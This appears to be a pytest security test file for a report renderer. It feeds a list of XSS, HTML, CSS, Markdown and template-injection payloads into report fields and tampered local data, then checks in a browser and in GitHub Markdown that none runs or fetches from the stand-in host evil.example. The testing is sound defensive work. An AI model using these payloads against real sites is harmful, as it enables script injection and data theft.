"""Whatever is typed into any field, or stands in local data, is shown as it was typed.

In a real browser, with the page's policy and without it: nothing runs, nothing is fetched, nothing
is added to the page. In GitHub's Markdown: no HTML, no picture, no link with other words on it.
"""

import re
from functools import cache, partial
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import cmarkgfm  # type: ignore[import-untyped]
import msgspec
import pytest
import yaml
from cmarkgfm.cmark import Options  # type: ignore[import-untyped]
from full_file import CATALOGUE, FRAMEWORK, MADE, everything
from in_browser import CHROMIUM
from markdown_it import MarkdownIt
from playwright.sync_api import Browser, Request
from read_back import Page, collapse, strings

from sdsframe.evaluation.model import Evaluation
from sdsframe.framework.load import Loaded, load_all
from sdsframe.report.audiences import audiences, make_report
from sdsframe.report.blocks import Report
from sdsframe.report.render import render
from sdsframe.yaml.fit import make

EVIL = "https://evil.example"
# Each would set `window.hacked`, ask EVIL for something, or make markup of itself.
ATTACKS = (
    "<script>window.hacked=1</script>",
    "</style><script>window.hacked=1</script>",
    "</title><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script><!--",
    "]]><script>window.hacked=1</script>",
    f"<script src={EVIL}/x.js></script>",
    "<img src=x onerror=window.hacked=1>",
    f"<img src='{EVIL}/x.png'>",
    "<svg onload=window.hacked=1><text>x</text></svg>",
    "</text></svg><svg><script>window.hacked=1</script></svg>",
    f"<svg><image href='{EVIL}/x.svg'/><use href='{EVIL}/y.svg#a'/></svg>",
    "<math><mtext></mtext><script>window.hacked=1</script></math>",
    f"<iframe src='{EVIL}'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.hacked=1&lt;/script&gt;'></iframe>",
    f"<object data='{EVIL}/x.swf'></object><embed src='{EVIL}/x'>",
    f"<link rel=stylesheet href='{EVIL}/x.css'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}/'>",
    f"<form action='{EVIL}'><button autofocus onfocus=window.hacked=1>x</button></form>",
    "<details open ontoggle=window.hacked=1>x</details>",
    '" onmouseover="window.hacked=1" autofocus onfocus="window.hacked=1',
    "' onfocus='window.hacked=1' autofocus tabindex='1",
    "`onfocus=window.hacked=1 autofocus`",
    f"</style><style>*{{background:url({EVIL}/x)}}</style>",
    f"@import url({EVIL}/x.css); *{{color:red}}",
    "\\3c script\\3e window.hacked=1",
    "javascript:window.hacked=1",
    "[words](javascript:window.hacked=1)",
    f"[words]({EVIL}) and [words]: {EVIL}",
    f"[r]: {EVIL}",
    f"![picture]({EVIL}/x.png)",
    f"<{EVIL}>",
    f"{EVIL}/<img src=x onerror=window.hacked=1> www.evil.example/<script>window.hacked=1</script>",
    "<javascript:window.hacked=1>",
    f"[<img src=x onerror=window.hacked=1>]({EVIL})",
    "```html\n<script>window.hacked=1</script>\n```",
    "    <script>window.hacked=1</script>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;b&#62;",
    "{{ 7*7 }}{% for x in ().__class__.__bases__ %}{% endfor %}{# gone #}",
    "{% raw %}{{ report.__class__ }}",
    "${7*7} <%= 7*7 %> #{7*7} ${{ secrets.X }}",
    "| a | b |\n| --- | --- |\n| <b>x</b> | y |",
    "# Heading\n===\n---\n> quoted\n- [ ] task",
    "$$\\href{javascript:window.hacked=1}{x}$$ $`x`$",
    "[^1]: note\n:warning: **bold** ~~gone~~ @somebody #1",
    "\u202e<b>txt.exe\u202c \ufeff\u2028<i>line",
)
# So that each field meets several attacks, whichever field meets which.
SHIFTS = (0, 7, 19)
# A page with harmless words shows which tags ours are made of: nothing typed may add another.
WITHOUT = make(Evaluation, everything(lambda name: name))
# What our Markdown is made of.
OURS = {
    "a", "blockquote", "br", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
GFM = MarkdownIt("gfm-like", {"html": True})
GFM.enable(["linkify"])


def words(name: str, shift: int = 0) -> str:
    """An attack, at the beginning of a line; the name keeps keys apart."""
    return f"{ATTACKS[(sum(map(ord, name)) + shift) % len(ATTACKS)]} {name}"


def typed(audience: str, shift: int = 0) -> Report:
    evaluation = make(Evaluation, everything(lambda name: words(name, shift)))
    return make_report(audience, evaluation, CATALOGUE, FRAMEWORK, MADE)


@cache
def loaded() -> Loaded:
    """Read the framework with attacks in all the words of a folder with local additions."""
    with TemporaryDirectory() as folder:
        for part, tree in tampered().items():
            Path(folder, f"{part}.yaml").write_text(
                yaml.safe_dump(tree, allow_unicode=True, sort_keys=False), encoding="utf-8"
            )
        return load_all(None, Path(folder))


def local(audience: str) -> Report:
    """Make a report in the words of local additions that were tampered with."""
    evaluation = make(Evaluation, everything(lambda name: name))
    return make_report(audience, evaluation, loaded().catalogue, loaded().framework, MADE)


def test_the_attacks_do_stand_in_the_local_data() -> None:
    words = repr(msgspec.to_builtins(loaded().framework))
    assert [attack for attack in ATTACKS if repr(attack.strip())[1:-1] not in words] == []
    page = render(local("team"), "html")
    assert "window.hacked=1" in page


def tampered() -> dict[str, Any]:
    numbers = iter(range(10**9))

    def change(data: Any, key: str = "") -> Any:  # noqa: ANN401 - plain data, of any shape
        if isinstance(data, dict):
            return {name: change(value, name) for name, value in data.items()}
        if isinstance(data, list):
            return [change(value, key) for value in data]
        if isinstance(data, str) and (key in {"ask", "name", "about", "why"} or " " in data):
            return f"{ATTACKS[next(numbers) % len(ATTACKS)]} {data}"
        return data

    parts = change(msgspec.to_builtins(FRAMEWORK))
    title = {"title": ATTACKS[0], "about": ATTACKS[1]}
    return {part: tree for part, tree in parts.items() if part != "edition"} | {"local": title}


LOOK = """() => {
  const all = [...document.querySelectorAll('*')];
  return {
    hacked: window.hacked || null,
    tags: [...new Set(all.map(each => each.localName))],
    on: all.flatMap(each => [...each.attributes].map(one => one.name)).filter(
      name => name.startsWith('on') || name === 'src' || name === 'srcdoc' || name === 'autofocus'),
    links: [...new Set(all.flatMap(each => [...each.attributes]
      .filter(one => /href|action|data$/.test(one.name)).map(one => one.value)))],
    styles: [...new Set(all.flatMap(each => [...each.attributes]
      .filter(one => one.name === 'style').map(one => one.value)))],
    sheets: document.styleSheets.length,
    text: document.body.textContent,
  }
}"""


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium")
@pytest.mark.parametrize(
    ("name", "guarded"), [("team", True), *((name, False) for name in audiences(FRAMEWORK))]
)
def test_in_a_browser_nothing_runs_and_nothing_is_fetched(
    name: str, browser: Browser, tmp_path_factory: pytest.TempPathFactory, *, guarded: bool
) -> None:
    folder = tmp_path_factory.mktemp("pages")
    plain = make_report(name, WITHOUT, CATALOGUE, FRAMEWORK, MADE)
    context = browser.new_context(bypass_csp=not guarded)
    seen = []
    for kind, report in (("plain", plain), ("typed", typed(name)), ("local", local(name))):
        path = folder / f"{kind}.html"
        path.write_text(render(report, "html"), encoding="utf-8")
        page = context.new_page()
        asked: list[str] = []
        page.on("request", partial(_note, asked))
        page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
        page.goto(path.as_uri())
        page.keyboard.press("Tab")
        page.mouse.move(200, 300)
        found = page.evaluate(LOOK)
        assert set(asked) == {path.as_uri()}
        assert page.url.startswith(path.as_uri())
        assert found["hacked"] is None
        assert found["on"] == []
        assert found["sheets"] == 1
        assert not any("evil" in link or "script:" in link for link in found["links"])
        assert not any("url(" in style for style in found["styles"])
        seen.append(found)
        page.close()
    context.close()
    assert set(seen[1]["tags"]) - set(seen[0]["tags"]) <= {"ul", "ol", "li", "br"}
    assert set(seen[2]["tags"]) - set(seen[0]["tags"]) <= {"ul", "ol", "li", "br"}
    if name == "team":
        shown = collapse(seen[1]["text"])
        lines = {line for text in strings(everything(words)) for line in text.splitlines()}
        missing = [line for line in lines if stripped(line) not in shown]
        assert missing == []


def stripped(line: str) -> str:
    """Leave out the mark of a list, which is drawn and not written."""
    return collapse(re.sub(r"^- ", "", line))


@pytest.mark.slow
@pytest.mark.parametrize("name", audiences(FRAMEWORK))
def test_on_github_nothing_typed_becomes_markup(name: str) -> None:
    for report in (typed(name), local(name)):
        text = render(report, "md")
        _look(text)


@pytest.mark.slow
@pytest.mark.parametrize("shift", SHIFTS[1:])
def test_on_github_other_attacks_in_each_field_stay_text(shift: int) -> None:
    _look(render(typed("team", shift), "md"))


def _note(asked: list[str], request: Request) -> None:
    asked.append(request.url)


def _look(markdown: str) -> None:
    """Fail where there is HTML, a picture, code, or a link whose words are not its address.

    In GitHub's own renderer, and in another with the same extensions.
    """
    page = Page(cmarkgfm.github_flavored_markdown_to_html(markdown, Options.CMARK_OPT_UNSAFE))
    assert {tag for tag, _ in page.tags} <= OURS
    for tag, attributes in page.tags:
        assert set(attributes) <= {"a": {"href"}, "ol": {"start"}}.get(tag, {"align"}), tag
    addresses = [str(link["href"]) for link in page.attributes("a")]
    assert [each for each in addresses if not re.match(r"(https?://|mailto:)", each)] == []
    for block in GFM.parse(markdown):
        assert block.type not in {"html_block", "fence", "code_block"}, block.content
        inside = block.children or []
        for number, token in enumerate(inside):
            assert token.type not in {"html_inline", "image", "code_inline"}, block.content
            if token.type == "link_open":
                address = str(token.attrGet("href"))
                assert re.match(r"(https?://|mailto:)", address), address
                assert token.info == "auto", block.content
                shown = inside[number + 1].content
                assert shown in address or address.endswith(shown.partition("://")[2])
